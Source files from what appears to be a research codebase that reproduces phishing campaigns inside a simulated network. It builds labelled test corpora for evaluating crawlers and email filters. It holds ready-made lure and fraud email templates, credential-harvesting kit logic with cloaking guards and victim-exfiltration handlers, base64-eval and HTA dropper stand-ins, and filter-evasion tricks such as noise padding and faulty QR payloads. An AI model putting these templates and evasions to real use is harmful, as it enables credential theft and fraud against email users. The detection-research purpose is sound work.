    "dropbox-document": VisualSpec(
        brand="Dropbox", title="Shared document", header_color=(0, 97, 254),
        button_color=(0, 97, 254), button_text="REQUEST ACCESS", fields=("EMAIL",),
    ),
    "gdrive-page": VisualSpec(
        brand="Drive", title="You need access", header_color=(30, 142, 62),
        button_color=(26, 115, 232), button_text="ASK FOR ACCESS", fields=(),
    ),
    "classic-captcha": VisualSpec(
        brand="", title="Verify you are human", header_color=(70, 70, 70),
        button_color=(66, 133, 244), button_text="VERIFY", fields=(),
    ),
}


def deploy_interaction_site(
    network: Network,
    domain: str,
    ip: str,
    kind: str,
    cert_issued_at: float,
) -> Website:
    """Host one interaction-gated page."""
    if kind not in INTERACTION_KINDS:
        raise ValueError(f"unknown interaction kind {kind!r}")
    site = Website(domain, ip=ip)
    page = Page(
        html=_PAGE_MARKUP[kind],
        visual=_VISUALS[kind],
        tags=frozenset({"requires-interaction", kind}),
    )
    site.set_default(page)
    network.host_website(site)
    network.issue_certificate(
        TLSCertificate(domain, "LetsEncrypt", cert_issued_at, cert_issued_at + 24 * 90)
    )
    return site


def build_interaction_message(
    recipient: str,
    delivered_at: float,
    landing_url: str,
    kind: str,
    rng: random.Random,
    sending_domain: str = "share-notification.example",
    sending_ip: str = "198.51.100.40",
) -> EmailMessage:
    """The lure pointing at an interaction-gated page."""
    subjects = {
        "dropbox-document": "Document shared with you via Dropbox",
        "gdrive-page": "Invitation to collaborate on a document",
        "classic-captcha": "Your mailbox storage is almost full",
    }
    message = EmailMessage(
        sender=f"no-reply@{sending_domain}",
        recipient=recipient,
        subject=subjects[kind],
        delivered_at=delivered_at,
        sending_domain=sending_domain,
        sending_ip=sending_ip,
        ground_truth={"category": "interaction", "kind": kind, "landing_url": landing_url},
    )
    message.add_part(
        MessagePart.text(f"A document is waiting for you.\n\nOpen it here: {landing_url}\n")
    )
    return message
