"""Lure-message composition for credential kits.

Builds the delivered email around a deployment's tokenized landing URL,
applying the message-level evasions of Section V-C.1: noise padding
(line breaks + long random text after the call to action, >=270
messages), base64 transfer encoding, QR-code embedding, and the
*faulty* QR variant whose payload carries garbage before the URL
(35 messages — the email-filter parser bug).
"""

from __future__ import annotations

import random
import string

from repro.imaging.image import Image
from repro.kits.credential import DeployedSite
from repro.mail.message import ContentType, EmailMessage, MessagePart
from repro.qr.encoder import qr_image
from repro.qr.tables import ECLevel

_CALL_TO_ACTION = (
    "Your {brand} password expires today. Review your account now:",
    "A new secure document is waiting for you on {brand}. Sign in to view it:",
    "Unusual sign-in activity detected on your {brand} account. Verify immediately:",
    "Action required: confirm your {brand} mailbox to avoid interruption:",
)

_QR_CALL_TO_ACTION = (
    "Your {brand} multi-factor enrollment expires today. "
    "Scan the QR code below with your phone to re-enroll:",
    "Listen to your new {brand} voicemail by scanning the code with your mobile device:",
)

#: Faulty-QR payload prefixes observed in the wild: arbitrary ASCII or a
#: stray bracket before the scheme.
_FAULTY_PREFIXES = ("xxx ", "[", "** ", "qr:", ")) ")


def _noise_block(rng: random.Random) -> str:
    """Line breaks plus long random text diluting the malicious signal."""
    breaks = "\n" * rng.randrange(40, 120)
    words = []
    for _ in range(rng.randrange(150, 400)):
        length = rng.randrange(3, 11)
        words.append("".join(rng.choice(string.ascii_lowercase) for _ in range(length)))
    return breaks + " ".join(words)


def build_credential_lure(
    deployment: DeployedSite,
    recipient: str,
    token: str,
    delivered_at: float,
    rng: random.Random,
    embed_as: str = "link",  # 'link' | 'qr' | 'faulty_qr' | 'image_text'
    noise_padding: bool = False,
    base64_body: bool = False,
    sending_domain: str = "",
    sending_ip: str = "",
    extra_urls: tuple[str, ...] = (),
) -> EmailMessage:
    """Compose the phishing email for one victim of one deployment."""
    landing_url = deployment.register_victim(recipient, token)
    brand = deployment.brand.name
    sender_domain = sending_domain or f"notify-{deployment.domain}"
    message = EmailMessage(
        sender=f"it-security@{sender_domain}",
        recipient=recipient,
        subject=f"[{brand}] Action required",
        delivered_at=delivered_at,
        sending_domain=sender_domain,
        sending_ip=sending_ip or "198.51.100.30",
        ground_truth={
            "category": "credential-phishing",
            "landing_domain": deployment.domain,
            "landing_url": landing_url,
            "embed_as": embed_as,
            "noise_padding": noise_padding,
            "brand": brand,
        },
    )

    if embed_as in ("qr", "faulty_qr"):
        intro = rng.choice(_QR_CALL_TO_ACTION).format(brand=brand)
        payload = landing_url
        if embed_as == "faulty_qr":
            payload = rng.choice(_FAULTY_PREFIXES) + landing_url
        message.add_part(MessagePart.text(intro, base64_encode=base64_body))
        message.add_part(
            MessagePart(
                ContentType.IMAGE,
                qr_image(payload, ec_level=ECLevel.L, scale=3),
                filename="qr_enroll.png",
            )
        )
        message.ground_truth["qr_payload"] = payload
    elif embed_as == "image_text":
        # The URL only exists as rendered pixels: text-based extraction
        # finds nothing, OCR (Section IV-B) recovers it.  Landing URLs
        # are all-lowercase so the case-folding OCR round trip is exact.
        from repro.imaging.render import render_lines

        intro = rng.choice(_CALL_TO_ACTION).format(brand=brand)
        image = render_lines([intro.upper()[:40], landing_url.upper()], scale=2)
        message.add_part(MessagePart.text("See the notice below.", base64_encode=base64_body))
        message.add_part(MessagePart(ContentType.IMAGE, image, filename="notice.png"))
    elif embed_as == "pdf":
        # A PDF attachment carrying the URL as a link annotation and in
        # its text; every other one also embeds a QR code in the page
        # (exercising the rasterise-and-rescan strategy).
        from repro.pdfdoc import PdfDocument, PdfPage

        intro = rng.choice(_CALL_TO_ACTION).format(brand=brand)
        images = []
        if rng.random() < 0.5:
            images = [qr_image(landing_url, ec_level=ECLevel.L, scale=3)]
        page = PdfPage(
            text_lines=[intro.upper()[:44], "OPEN THE SECURE DOCUMENT:", landing_url],
            uri_annotations=[landing_url],
            images=images,
        )
        document = PdfDocument(title=f"{brand} secure notice").add_page(page)
        message.add_part(MessagePart.text("Please review the attached notice.", base64_encode=base64_body))
        message.add_part(
            MessagePart(ContentType.PDF, document, filename="secure_notice.pdf", inline=False)
        )
    else:
        intro = rng.choice(_CALL_TO_ACTION).format(brand=brand)
        body = f"{intro}\n\n{landing_url}\n"
        for extra in extra_urls:
            body += f"{extra}\n"
        html = (
            f"<html><body><p>{intro}</p>"
            f'<p><a href="{landing_url}">Review account</a></p></body></html>'
        )
        message.add_part(MessagePart.text(body, base64_encode=base64_body))
        message.add_part(MessagePart.html(html))

    if noise_padding:
        message.add_part(MessagePart.text(_noise_block(rng)))
    return message
