"""Credential-harvesting kits (spear and non-targeted).

A :class:`CredentialKit` deploys one landing site onto the network
fabric: a brand-lookalike login page hidden behind the configured
stack of server-side guards, challenge services, and client-side
cloaks, with per-victim tokenized URLs.  The option set mirrors every
evasion the paper quantified, so the corpus generator can dial
prevalences to the reported numbers.
"""

from __future__ import annotations

import base64
import json
import random
import re
from dataclasses import dataclass, field

from repro.botdetect.recaptcha import RecaptchaService
from repro.botdetect.turnstile import TurnstileProtection
from repro.kits import scripts
from repro.kits.brands import Brand
from repro.web.cloaking import (
    ActivationWindowGuard,
    GeoGuard,
    IPBlocklistGuard,
    TokenGuard,
    UserAgentGuard,
)
from repro.web.context import ClientContext
from repro.web.http import HttpRequest, HttpResponse
from repro.web.network import Network
from repro.web.site import Page, VisualSpec, Website, benign_decoy_page
from repro.web.tls import TLSCertificate

_EMAIL_RE = re.compile(r"^[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+$")


@dataclass(frozen=True)
class CredentialKitOptions:
    """Which evasion features this deployment uses."""

    use_turnstile: bool = False
    use_recaptcha: bool = False
    otp_gate: bool = False
    math_challenge: bool = False
    victim_check_variant: str | None = None  # 'a' | 'b' | None
    hue_rotate: bool = False
    console_hijack: bool = False
    debugger_timer: bool = False
    context_menu_block: bool = False
    ua_tz_lang_cloak: bool = False
    fingerprint_lib_gate: bool = False
    ip_exfiltration: str = "none"  # 'none' | 'httpbin' | 'httpbin+ipapi'
    hotlink_brand_resources: bool = False
    tokenized_urls: bool = True
    mobile_only: bool = False
    geo_countries: tuple[str, ...] = ()
    block_cloud_ips: bool = True
    #: When True, guard denials return an error page instead of a benign
    #: decoy (the UA/geo-filtered sites CrawlerBox "was unable to access").
    error_on_deny: bool = False


@dataclass
class DeployedSite:
    """A kit deployment: the live site plus its attacker-side state."""

    domain: str
    website: Website
    brand: Brand
    options: CredentialKitOptions
    token_guard: TokenGuard | None = None
    turnstile: TurnstileProtection | None = None
    harvested_credentials: list[dict] = field(default_factory=list)
    exfiltrated_client_data: list[dict] = field(default_factory=list)
    victim_database: set[str] = field(default_factory=set)
    landing_path_prefix: str = "/"
    activated_at: float = 0.0

    def landing_url(self, token: str, victim_email: str = "") -> str:
        """A per-victim tokenized URL, with the victim-check fragment."""
        url = f"https://{self.domain}{self.landing_path_prefix}{token}"
        if self.options.victim_check_variant and victim_email:
            separator = "#e=" if self.options.victim_check_variant == "a" else "#id."
            encoded = base64.b64encode(victim_email.encode("utf-8")).decode("ascii")
            url = f"{url}{separator}{encoded}"
        return url

    def register_victim(self, email: str, token: str) -> str:
        """Record a victim and issue their token; returns the landing URL."""
        self.victim_database.add(email.lower())
        if self.token_guard is not None:
            self.token_guard.issue(token, email)
        return self.landing_url(token, email)


class CredentialKit:
    """Builds and deploys one credential-harvesting landing site."""

    def __init__(
        self,
        brand: Brand,
        options: CredentialKitOptions,
        recaptcha: RecaptchaService | None = None,
    ):
        self.brand = brand
        self.options = options
        self.recaptcha = recaptcha

    # ------------------------------------------------------------------
    def deploy(
        self,
        network: Network,
        domain: str,
        ip: str,
        cert_issued_at: float,
        activated_at: float = 0.0,
    ) -> DeployedSite:
        """Host the kit on ``domain`` and return the deployment handle."""
        options = self.options
        website = Website(domain, ip=ip)
        deployment = DeployedSite(
            domain=domain,
            website=website,
            brand=self.brand,
            options=options,
            activated_at=activated_at,
        )

        guards = []
        if activated_at > 0:
            guards.append(ActivationWindowGuard(activate_at=activated_at))
        if options.mobile_only:
            guards.append(UserAgentGuard.mobile_only())
        if options.geo_countries:
            guards.append(GeoGuard(options.geo_countries))
        if options.block_cloud_ips:
            guards.append(IPBlocklistGuard(block_cloud=False if options.mobile_only else True))
        if options.tokenized_urls:
            token_guard = TokenGuard()
            deployment.token_guard = token_guard
            guards.append(token_guard)

        decoy = None if options.error_on_deny else benign_decoy_page(f"{domain} — under construction")
        page = Page(
            html=self._landing_html(),
            visual=self._visual_spec(),
            guards=guards,
            decoy=decoy,
            tags=self._tags(),
        )
        if options.otp_gate:
            website.add_prefix_page("/portal/", page)
            website.add_prefix_page("/", self._otp_page(guards))
        elif options.math_challenge:
            website.add_prefix_page("/portal/", page)
            website.add_prefix_page("/", self._math_page(guards))
        else:
            website.add_prefix_page("/", page)

        website.add_handler("/collect", self._collect_handler(deployment))
        website.add_handler("/check", self._check_handler(deployment))
        website.add_handler("/c2/collect", self._c2_handler(deployment))

        network.host_website(website)
        # Validity is generous so certificates issued long before the
        # campaign (compromised/abused domains) still verify at crawl
        # time; timedeltaB is measured from the CT log's first issuance.
        network.issue_certificate(
            TLSCertificate(domain, "LetsEncrypt", cert_issued_at, cert_issued_at + 24 * 730)
        )
        if options.use_turnstile:
            deployment.turnstile = TurnstileProtection(website)
        return deployment

    # ------------------------------------------------------------------
    def _tags(self) -> frozenset[str]:
        tags = {"credential-harvesting", f"brand:{self.brand.name}"}
        options = self.options
        for flag, label in (
            (options.use_turnstile, "turnstile"),
            (options.use_recaptcha, "recaptcha"),
            (options.otp_gate, "otp"),
            (options.math_challenge, "math-challenge"),
            (options.hue_rotate, "hue-rotate"),
            (options.console_hijack, "console-hijack"),
            (options.fingerprint_lib_gate, "fingerprint-libs"),
        ):
            if flag:
                tags.add(label)
        if options.victim_check_variant:
            tags.add(f"victim-check-{options.victim_check_variant}")
        return frozenset(tags)

    def _visual_spec(self) -> VisualSpec:
        logo_url = None
        if self.options.hotlink_brand_resources:
            logo_url = f"https://{self.brand.login_domain}/assets/logo.png"
        return self.brand.clone_spec(
            hue_rotate_deg=4.0 if self.options.hue_rotate else 0.0,
            logo_url=logo_url,
        )

    def _page_scripts(self) -> list[str]:
        options = self.options
        decoy = "https://decoy-landing.example/"
        page_scripts: list[str] = []
        if options.hue_rotate:
            page_scripts.append(scripts.hue_rotate_head_script(4.0))
        if options.console_hijack:
            page_scripts.append(scripts.console_hijack_script())
        if options.debugger_timer:
            page_scripts.append(scripts.debugger_timer_script())
        if options.context_menu_block:
            page_scripts.append(scripts.context_menu_block_script())
        if options.ip_exfiltration != "none":
            page_scripts.append(
                scripts.ip_exfiltration_script(
                    "/c2/collect", use_ipapi=options.ip_exfiltration == "httpbin+ipapi"
                )
            )
        # Reveal logic: exactly one gate controls the hidden form.
        if options.victim_check_variant:
            page_scripts.append(scripts.victim_check_script(options.victim_check_variant, decoy))
        elif options.fingerprint_lib_gate:
            page_scripts.append(scripts.fingerprint_library_gate(scripts.REVEAL_CONTENT, decoy))
        elif options.ua_tz_lang_cloak:
            page_scripts.append(scripts.ua_timezone_language_cloak(scripts.REVEAL_CONTENT, decoy))
        else:
            page_scripts.append(scripts.simple_reveal_script())
        if options.use_recaptcha:
            page_scripts.append(
                RecaptchaService.embed_snippet(
                    on_score="if (result.score < 0.5) { location.href = '" + decoy + "'; }"
                )
            )
        return page_scripts

    def _landing_html(self) -> str:
        resources = ""
        if self.options.hotlink_brand_resources:
            resources = (
                f'<img src="https://{self.brand.login_domain}/assets/logo.png"/>'
                f'<img src="https://{self.brand.login_domain}/assets/background.png"/>'
            )
        script_tags = "\n".join(f"<script>{source}</script>" for source in self._page_scripts())
        return f"""<html>
<head><title>{self.brand.spec.title}</title>{script_tags}</head>
<body>
{resources}
<div id="content" style="display:none">
<form action="/collect" method="POST">
<input type="text" name="email"/>
<input type="password" name="password"/>
</form>
</div>
</body></html>"""

    def _otp_page(self, guards: list) -> Page:
        """The OTP interstitial (47 messages): code sent out-of-band."""
        html = """<html>
<head><title>Verification required</title></head>
<body>
<p>Enter the one-time password we sent you to view the secure document.</p>
<form action="/portal/" method="GET"><input type="text" name="otp"/></form>
</body></html>"""
        return Page(
            html=html,
            visual=VisualSpec(
                brand="", title="One-time password required", fields=("OTP CODE",), button_text="VERIFY"
            ),
            guards=list(guards),
            decoy=benign_decoy_page("Document portal"),
            tags=frozenset({"otp-gate", "requires-interaction"}),
        )

    def _math_page(self, guards: list) -> Page:
        """The custom challenge-response page (11 messages)."""
        html = """<html>
<head><title>Security check</title></head>
<body>
<p>Solve to continue: what is 7 + 5?</p>
<form action="/portal/" method="GET"><input type="text" name="answer"/></form>
<script>
window.__expected_answer = 12;
</script>
</body></html>"""
        return Page(
            html=html,
            visual=VisualSpec(
                brand="", title="Solve 7 + 5 to continue", fields=("ANSWER",), button_text="CONTINUE"
            ),
            guards=list(guards),
            decoy=benign_decoy_page("Security check"),
            tags=frozenset({"math-challenge", "requires-interaction"}),
        )

    # ------------------------------------------------------------------
    # Attacker-side handlers
    # ------------------------------------------------------------------
    def _collect_handler(self, deployment: DeployedSite):
        def _collect(request: HttpRequest, context: ClientContext) -> HttpResponse:
            try:
                data = json.loads(request.body) if request.body else {}
            except json.JSONDecodeError:
                data = {"raw": request.body}
            data["client_ip"] = context.ip
            deployment.harvested_credentials.append(data)
            return HttpResponse(status=200, body='{"ok":true}', content_type="application/json")

        return _collect

    def _check_handler(self, deployment: DeployedSite):
        def _check(request: HttpRequest, context: ClientContext) -> HttpResponse:
            try:
                data = json.loads(request.body) if request.body else {}
            except json.JSONDecodeError:
                data = {}
            email = str(data.get("email", "")).lower()
            known = bool(_EMAIL_RE.match(email)) and email in deployment.victim_database
            return HttpResponse(
                status=200, body=json.dumps({"known": known}), content_type="application/json"
            )

        return _check

    def _c2_handler(self, deployment: DeployedSite):
        def _c2(request: HttpRequest, context: ClientContext) -> HttpResponse:
            try:
                data = json.loads(request.body) if request.body else {}
            except json.JSONDecodeError:
                data = {}
            deployment.exfiltrated_client_data.append(data)
            return HttpResponse(status=200, body='{"ok":true}', content_type="application/json")

        return _c2
