"""URL-less first-contact fraud (49.6 % of the malicious corpus).

"These are generally associated with fraud when attackers try to
establish first contact with the recipient.  An example [...] is a
plain-text message impersonating the billing department of a partner
company, falsely asserting a past-due balance and pressuring the
recipient to reply urgently [...] often employing the threat of service
disconnection."
"""

from __future__ import annotations

import random

from repro.mail.message import EmailMessage, MessagePart

_PARTNER_COMPANIES = (
    "Global Freight Partners",
    "Meridian Office Supply",
    "TransEuropa Logistics",
    "Corporate Cloud Services",
    "Skyline Facilities Management",
    "Atlas Travel Wholesale",
)

_FRAUD_TEMPLATES = (
    (
        "Past due balance — account {account}",
        "Dear {recipient_name},\n\n"
        "Our records show an outstanding balance of EUR {amount} on account {account} "
        "with {company}. This invoice is now {days} days past due.\n\n"
        "To avoid immediate disconnection of services, reply to this message today "
        "with your purchase-order reference so we can reconcile payment.\n\n"
        "Regards,\nBilling Department\n{company}",
    ),
    (
        "URGENT: payment reconciliation required",
        "Hello {recipient_name},\n\n"
        "We were unable to reconcile your last remittance to {company}. "
        "A hold of EUR {amount} has been placed pending confirmation.\n\n"
        "Kindly reply urgently with your accounts-payable contact to release the hold. "
        "Failure to respond within {days} business days will result in service suspension.\n\n"
        "Accounts Receivable\n{company}",
    ),
    (
        "Final notice before service interruption",
        "Dear {recipient_name},\n\n"
        "Despite previous reminders, invoice {account} (EUR {amount}) issued by {company} "
        "remains unpaid. This is the final notice before interruption of service and "
        "referral to collections.\n\n"
        "Please respond immediately to arrange settlement.\n\n"
        "Credit Control\n{company}",
    ),
)


def build_fraud_message(
    recipient: str,
    delivered_at: float,
    rng: random.Random,
    sending_domain: str = "",
    sending_ip: str = "",
) -> EmailMessage:
    """One plain-text BEC-style fraud message with no web resources."""
    company = rng.choice(_PARTNER_COMPANIES)
    subject_template, body_template = _FRAUD_TEMPLATES[rng.randrange(len(_FRAUD_TEMPLATES))]
    account = f"INV-{rng.randrange(10000, 99999)}"
    fields = {
        "recipient_name": recipient.split("@")[0].replace(".", " ").title(),
        "company": company,
        "amount": f"{rng.randrange(800, 48000)}.{rng.randrange(10, 99)}",
        "account": account,
        "days": rng.randrange(10, 60),
    }
    sender_domain = sending_domain or company.lower().replace(" ", "-") + ".example"
    message = EmailMessage(
        sender=f"billing@{sender_domain}",
        recipient=recipient,
        subject=subject_template.format(**fields),
        delivered_at=delivered_at,
        sending_domain=sender_domain,
        sending_ip=sending_ip or "198.51.100.10",
        dkim_signed=True,
        ground_truth={"category": "fraud-no-resources"},
    )
    message.add_part(MessagePart.text(body_template.format(**fields)))
    return message
