"""HTML-attachment and ZIP/HTA kits (Sections V-B and V).

Two non-targeted patterns:

- **HTML attachments** (29 messages): the victim opens the file locally;
  19 of them keep the window URL unchanged and pull page furniture from
  legitimate image CDNs inside frames, the rest use JavaScript to
  redirect to an external landing site.
- **ZIP archives with HTA droppers** (5 messages): the HTA fetches a
  JavaScript payload from a VirusTotal-flagged domain; CrawlerBox
  records but never runs it.
"""

from __future__ import annotations

import random

from repro.js.obfuscate import base64_eval_wrap
from repro.mail.attachments import ArchiveFile, HtaFile
from repro.mail.message import ContentType, EmailMessage, MessagePart

#: Legitimate multimedia hosts the local-loading attachments lean on.
LEGIT_MEDIA_HOSTS = ("gyazo-cdn.example", "freeimages-cdn.example")


def _local_frame_html(brand_title: str, rng: random.Random) -> str:
    """An attachment that renders in place, without changing the URL."""
    host = LEGIT_MEDIA_HOSTS[rng.randrange(len(LEGIT_MEDIA_HOSTS))]
    background = f"https://{host}/bg/{rng.randrange(1000, 9999)}.png"
    return f"""<html>
<head><title>{brand_title}</title></head>
<body>
<img src="{background}"/>
<div id="frame-root">
<form action="https://collector-{rng.randrange(100, 999)}.example/submit" method="POST">
<input type="text" name="email"/>
<input type="password" name="password"/>
</form>
</div>
</body></html>"""


def _redirect_html(landing_url: str) -> str:
    """An attachment whose script rewrites the URL and reloads."""
    dropper = base64_eval_wrap(f"location.href = '{landing_url}';")
    return f"""<html>
<head><title>Document preview</title><script>{dropper}</script></head>
<body><p>Loading secure document...</p></body></html>"""


def build_html_attachment_message(
    recipient: str,
    delivered_at: float,
    rng: random.Random,
    local_loading: bool,
    landing_url: str = "",
    sending_domain: str = "sharepoint-notify.example",
    sending_ip: str = "198.51.100.21",
) -> EmailMessage:
    """A message carrying an HTML file the victim must open locally."""
    if local_loading:
        markup = _local_frame_html("Payment remittance", rng)
        category = "html-attachment-local"
    else:
        if not landing_url:
            raise ValueError("redirecting HTML attachments need a landing_url")
        markup = _redirect_html(landing_url)
        category = "html-attachment-redirect"
    message = EmailMessage(
        sender=f"documents@{sending_domain}",
        recipient=recipient,
        subject="Remittance advice attached",
        delivered_at=delivered_at,
        sending_domain=sending_domain,
        sending_ip=sending_ip,
        ground_truth={"category": category},
    )
    message.add_part(MessagePart.text("Please find the remittance advice attached."))
    message.add_part(
        MessagePart(
            ContentType.HTML,
            markup,
            filename=f"remittance_{rng.randrange(1000, 9999)}.html",
            inline=False,
        )
    )
    return message


def deploy_download_site(
    network,
    domain: str,
    ip: str,
    malicious_js_domain: str,
    cert_issued_at: float,
    rng: random.Random,
):
    """Host a site whose landing URL downloads a ZIP with an HTA dropper."""
    from repro.web.context import ClientContext
    from repro.web.http import HttpRequest, HttpResponse
    from repro.web.network import Network
    from repro.web.site import Website
    from repro.web.tls import TLSCertificate

    assert isinstance(network, Network)
    site = Website(domain, ip=ip)
    hta = HtaFile(
        name="invoice_viewer.hta",
        remote_script_url=f"https://{malicious_js_domain}/loader/{rng.randrange(10**6):06d}.js",
    )
    archive = ArchiveFile().add(hta.name, hta)

    def _download(request: HttpRequest, context: ClientContext) -> HttpResponse:
        response = HttpResponse(status=200, body="PK\x03\x04...", content_type="application/zip")
        response.headers.set("Content-Disposition", 'attachment; filename="invoices.zip"')
        response.archive = archive  # type: ignore[attr-defined]
        return response

    site.set_default(_download)
    network.host_website(site)
    network.issue_certificate(
        TLSCertificate(domain, "LetsEncrypt", cert_issued_at, cert_issued_at + 24 * 365)
    )
    return site


def build_download_lure(
    recipient: str,
    delivered_at: float,
    landing_url: str,
    rng: random.Random,
    sending_domain: str = "invoice-delivery.example",
    sending_ip: str = "198.51.100.22",
) -> EmailMessage:
    """A message whose URL triggers the ZIP download."""
    message = EmailMessage(
        sender=f"invoices@{sending_domain}",
        recipient=recipient,
        subject="Your invoice package is ready",
        delivered_at=delivered_at,
        sending_domain=sending_domain,
        sending_ip=sending_ip,
        ground_truth={"category": "download", "landing_url": landing_url},
    )
    message.add_part(
        MessagePart.text(f"Your invoice package is ready for download:\n\n{landing_url}\n")
    )
    return message


def build_zip_hta_message(
    recipient: str,
    delivered_at: float,
    rng: random.Random,
    malicious_js_domain: str,
    sending_domain: str = "invoice-delivery.example",
    sending_ip: str = "198.51.100.22",
) -> EmailMessage:
    """A message with a ZIP archive containing an HTA dropper."""
    hta = HtaFile(
        name="invoice_viewer.hta",
        remote_script_url=f"https://{malicious_js_domain}/loader/{rng.randrange(10**6):06d}.js",
    )
    archive = ArchiveFile().add(hta.name, hta).add(
        "README.txt", "Open invoice_viewer to display your document."
    )
    message = EmailMessage(
        sender=f"invoices@{sending_domain}",
        recipient=recipient,
        subject="Invoice package",
        delivered_at=delivered_at,
        sending_domain=sending_domain,
        sending_ip=sending_ip,
        ground_truth={"category": "download", "vt_detections": rng.randrange(17, 40)},
    )
    message.add_part(MessagePart.text("Your invoice package is attached as a ZIP archive."))
    message.add_part(MessagePart(ContentType.ZIP, archive, filename="invoices.zip", inline=False))
    return message
