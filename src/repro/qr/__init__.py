"""A genuine QR-code codec and image scanner.

Section V-C of the paper documents "quishing": malicious URLs embedded in
QR codes, including *faulty* QR codes whose payload is not a syntactically
valid URL (e.g. ``"xxx https://evil-site.com/"``) — mobile camera apps
still extract and open the URL while several commercial email filters
fail to.  Reproducing that bug mechanically requires real QR codes, so
this subpackage implements the codec from scratch:

- :mod:`~repro.qr.gf256` — GF(2^8) arithmetic and Reed–Solomon
  encoding/decoding (syndromes, Berlekamp–Massey, Chien, Forney).
- :mod:`~repro.qr.encoder` — byte/alphanumeric/numeric segment encoding,
  block interleaving, versions 1-10, all four EC levels.
- :mod:`~repro.qr.matrix` — module placement, the eight mask patterns and
  the penalty-based mask choice, format/version information.
- :mod:`~repro.qr.decoder` — matrix back to payload, correcting errors.
- :mod:`~repro.qr.locator` — find and sample a QR symbol inside a raster
  :class:`~repro.imaging.image.Image` via finder-pattern detection.
- :mod:`~repro.qr.scanner` — payload-to-URL policies: the *strict*
  extractor models email-filter parsers, the *lenient* extractor models
  mobile camera apps; their disagreement is the exploited bug.
"""

from repro.qr.encoder import encode_qr, qr_image
from repro.qr.decoder import decode_qr_matrix
from repro.qr.locator import locate_qr_matrix
from repro.qr.scanner import (
    decode_qr_image,
    extract_url_lenient,
    extract_url_strict,
)

__all__ = [
    "encode_qr",
    "qr_image",
    "decode_qr_matrix",
    "locate_qr_matrix",
    "decode_qr_image",
    "extract_url_strict",
    "extract_url_lenient",
]
