"""QR module-matrix construction: function patterns, masking, penalties.

Matrices are numpy boolean arrays (True = dark module) indexed
``[row, column]`` with (0, 0) at the top-left, as in ISO/IEC 18004.
"""

from __future__ import annotations

import numpy as np

from repro.qr.tables import (
    ALIGNMENT_POSITIONS,
    ECLevel,
    bch_format_bits,
    bch_version_bits,
    matrix_size,
)


def _place_finder(matrix: np.ndarray, reserved: np.ndarray, row: int, col: int) -> None:
    """Place a 7x7 finder pattern with its top-left corner at (row, col)."""
    for r in range(-1, 8):
        for c in range(-1, 8):
            rr, cc = row + r, col + c
            if not (0 <= rr < matrix.shape[0] and 0 <= cc < matrix.shape[1]):
                continue
            in_outer = 0 <= r <= 6 and 0 <= c <= 6
            on_ring = in_outer and (r in (0, 6) or c in (0, 6))
            in_core = 2 <= r <= 4 and 2 <= c <= 4
            matrix[rr, cc] = on_ring or in_core
            reserved[rr, cc] = True


def _place_alignment(matrix: np.ndarray, reserved: np.ndarray, row: int, col: int) -> None:
    """Place a 5x5 alignment pattern centred at (row, col)."""
    for r in range(-2, 3):
        for c in range(-2, 3):
            ring = max(abs(r), abs(c)) != 1
            matrix[row + r, col + c] = ring
            reserved[row + r, col + c] = True


def build_function_patterns(version: int) -> tuple[np.ndarray, np.ndarray]:
    """Return (matrix, reserved) with all function patterns placed.

    ``reserved`` marks every module that does not carry data: finder,
    separator, timing and alignment patterns, the dark module, and the
    format/version information areas.
    """
    size = matrix_size(version)
    matrix = np.zeros((size, size), dtype=bool)
    reserved = np.zeros((size, size), dtype=bool)

    _place_finder(matrix, reserved, 0, 0)
    _place_finder(matrix, reserved, 0, size - 7)
    _place_finder(matrix, reserved, size - 7, 0)

    # Timing patterns.
    for i in range(8, size - 8):
        matrix[6, i] = i % 2 == 0
        reserved[6, i] = True
        matrix[i, 6] = i % 2 == 0
        reserved[i, 6] = True

    # Alignment patterns (skip any that would overlap a finder).
    positions = ALIGNMENT_POSITIONS.get(version, ())
    for row in positions:
        for col in positions:
            near_finder = (
                (row <= 8 and col <= 8)
                or (row <= 8 and col >= size - 9)
                or (row >= size - 9 and col <= 8)
            )
            if not near_finder:
                _place_alignment(matrix, reserved, row, col)

    # Dark module.
    matrix[size - 8, 8] = True
    reserved[size - 8, 8] = True

    # Reserve format-information areas (filled in later).
    for i in range(9):
        if i != 6:
            reserved[8, i] = True
            reserved[i, 8] = True
    for i in range(8):
        reserved[8, size - 1 - i] = True
        reserved[size - 1 - i, 8] = True

    # Reserve version-information areas for versions >= 7.
    if version >= 7:
        for i in range(18):
            reserved[size - 11 + i % 3, i // 3] = True
            reserved[i // 3, size - 11 + i % 3] = True

    return matrix, reserved


def data_module_coordinates(version: int) -> list[tuple[int, int]]:
    """Data-module (row, col) coordinates in QR placement order.

    The zigzag starts at the bottom-right, walks column pairs right to
    left, alternating upward/downward, and skips the vertical timing
    pattern in column 6.
    """
    size = matrix_size(version)
    _, reserved = build_function_patterns(version)
    coordinates: list[tuple[int, int]] = []
    col = size - 1
    upward = True
    while col > 0:
        if col == 6:  # skip the vertical timing column entirely
            col -= 1
        rows = range(size - 1, -1, -1) if upward else range(size)
        for row in rows:
            for dc in (0, -1):
                if not reserved[row, col + dc]:
                    coordinates.append((row, col + dc))
        upward = not upward
        col -= 2
    return coordinates


def mask_condition(mask_id: int, row: int, col: int) -> bool:
    """The eight ISO/IEC 18004 data-mask conditions."""
    if mask_id == 0:
        return (row + col) % 2 == 0
    if mask_id == 1:
        return row % 2 == 0
    if mask_id == 2:
        return col % 3 == 0
    if mask_id == 3:
        return (row + col) % 3 == 0
    if mask_id == 4:
        return (row // 2 + col // 3) % 2 == 0
    if mask_id == 5:
        return (row * col) % 2 + (row * col) % 3 == 0
    if mask_id == 6:
        return ((row * col) % 2 + (row * col) % 3) % 2 == 0
    if mask_id == 7:
        return ((row + col) % 2 + (row * col) % 3) % 2 == 0
    raise ValueError(f"invalid mask id {mask_id}")


def _mask_matrix(size: int, mask_id: int) -> np.ndarray:
    rows, cols = np.indices((size, size))
    if mask_id == 0:
        return (rows + cols) % 2 == 0
    if mask_id == 1:
        return rows % 2 == 0
    if mask_id == 2:
        return cols % 3 == 0
    if mask_id == 3:
        return (rows + cols) % 3 == 0
    if mask_id == 4:
        return (rows // 2 + cols // 3) % 2 == 0
    if mask_id == 5:
        return (rows * cols) % 2 + (rows * cols) % 3 == 0
    if mask_id == 6:
        return ((rows * cols) % 2 + (rows * cols) % 3) % 2 == 0
    if mask_id == 7:
        return ((rows + cols) % 2 + (rows * cols) % 3) % 2 == 0
    raise ValueError(f"invalid mask id {mask_id}")


def apply_mask(matrix: np.ndarray, reserved: np.ndarray, mask_id: int) -> np.ndarray:
    """XOR the data modules with the mask pattern (involutive)."""
    mask = _mask_matrix(matrix.shape[0], mask_id) & ~reserved
    return matrix ^ mask


